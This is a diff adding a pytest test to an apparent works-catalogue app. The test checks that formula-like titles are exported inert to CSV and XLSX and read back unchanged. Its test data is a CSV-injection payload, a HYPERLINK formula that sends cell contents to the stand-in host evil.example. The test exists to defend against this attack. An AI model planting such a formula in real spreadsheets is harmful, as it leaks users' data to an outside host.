@@ -75,3 +75,27 @@ def test_a_semicolon_separated_sheet_with_a_bom_imports_like_a_comma_separated_o
     work = Work.objects.get()
     assert sorted(work.alternate_titles.values_list("title", flat=True)) == ["Bonne Chanson", "Buena Canción"]
     assert WorkShare.objects.filter(work=work).count() == 2
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_a_title_that_looks_like_a_formula_is_exported_inert_and_reads_back_as_written(tmp_path, fmt):
+    from openpyxl import load_workbook
+
+    title = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    path = tmp_path / "works.csv"
+    quoted = title.replace('"', '""')
+    path.write_text(f'title,role,last_name,pr_share\n"{quoted}",CA,Okafor,100\n', "utf-8")
+    import_works(path)
+    assert Work.objects.get().title == title
+    out = tmp_path / f"export.{fmt}"
+
+    export_works(out, fmt=fmt)
+
+    if fmt == "csv":
+        assert f"'{quoted}" in out.read_text("utf-8")  # behind OWASP's apostrophe: never evaluated
+    else:
+        cells = [c for row in load_workbook(out).active.iter_rows() for c in row if c.value == title]
+        assert cells and all(c.data_type == "s" for c in cells)  # a text cell, not a formula
+    again = import_works(out)
+    assert (again.created, again.updated, again.unchanged, again.errors) == (0, 0, 1, [])
+    assert Work.objects.get().title == title
